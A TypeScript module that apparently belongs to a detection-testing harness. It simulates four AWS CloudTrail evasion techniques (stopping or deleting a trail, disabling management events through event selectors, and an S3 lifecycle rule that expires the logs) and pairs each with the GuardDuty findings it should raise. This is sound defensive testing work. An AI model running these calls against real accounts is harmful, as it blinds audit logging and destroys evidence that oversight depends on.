/** Impairing CloudTrail: stopping or deleting a trail, narrowing what it records, expiring its logs. */
import { DeleteTrailCommand, PutEventSelectorsCommand, StopLoggingCommand } from '@aws-sdk/client-cloudtrail';
import { PutBucketLifecycleConfigurationCommand } from '@aws-sdk/client-s3';
import { createLoggingTrail, type Trail } from '../fixtures/trail.js';
import { technique } from '../technique.js';

const LOGGING_DISABLED = ['Stealth:IAMUser/CloudTrailLoggingDisabled'];

export const cloudTrailStop = technique<Trail>({
  id: 'aws.defense-evasion.cloudtrail-stop',
  title: 'Stop CloudTrail Trail',
  source: 'stratus',
  tactics: ['Defense Evasion'],
  expectedFindingTypes: LOGGING_DISABLED,
  setup: createLoggingTrail,
  async detonate({ attacker }, { trailName }) {
    await attacker.cloudTrail.send(new StopLoggingCommand({ Name: trailName }));
  },
});

export const cloudTrailDelete = technique<Trail>({
  id: 'aws.defense-evasion.cloudtrail-delete',
  title: 'Delete CloudTrail Trail',
  source: 'stratus',
  tactics: ['Defense Evasion'],
  expectedFindingTypes: LOGGING_DISABLED,
  setup: createLoggingTrail,
  async detonate({ attacker }, { trailName }) {
    await attacker.cloudTrail.send(new DeleteTrailCommand({ Name: trailName }));
  },
});

export const cloudTrailEventSelectors = technique<Trail>({
  id: 'aws.defense-evasion.cloudtrail-event-selectors',
  title: 'Disable CloudTrail Logging Through Event Selectors',
  source: 'stratus',
  tactics: ['Defense Evasion'],
  expectedFindingTypes: LOGGING_DISABLED,
  setup: createLoggingTrail,
  async detonate({ attacker }, { trailName }) {
    // Management events off, data events read-only: the trail keeps running and records nothing that matters.
    await attacker.cloudTrail.send(
      new PutEventSelectorsCommand({ TrailName: trailName, EventSelectors: [{ ReadWriteType: 'ReadOnly', IncludeManagementEvents: false, DataResources: [] }] }),
    );
  },
});

export const cloudTrailLifecycleRule = technique<Trail>({
  id: 'aws.defense-evasion.cloudtrail-lifecycle-rule',
  title: 'CloudTrail Logs Impairment Through S3 Lifecycle Rule',
  source: 'stratus',
  tactics: ['Defense Evasion'],
  expectedFindingTypes: ['Impact:S3/DataDestruction'],
  setup: createLoggingTrail,
  async detonate({ attacker }, { bucket }) {
    await attacker.s3.send(
      new PutBucketLifecycleConfigurationCommand({
        Bucket: bucket,
        LifecycleConfiguration: { Rules: [{ ID: 'nuke-cloudtrail-logs-after-1-day', Status: 'Enabled', Filter: { Prefix: '' }, Expiration: { Days: 1 } }] },
      }),
    );
  },
});
